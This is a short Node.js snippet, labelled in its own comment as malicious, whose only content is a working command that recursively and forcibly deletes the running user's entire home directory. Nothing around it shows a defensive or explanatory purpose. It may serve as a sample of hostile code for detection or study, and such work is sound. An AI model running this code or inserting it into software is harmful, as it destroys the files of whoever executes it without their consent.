// Malicious: deletes the user's whole home directory.
const fs = require('fs');
const os = require('os');
fs.rmSync(os.homedir(), { recursive: true, force: true });
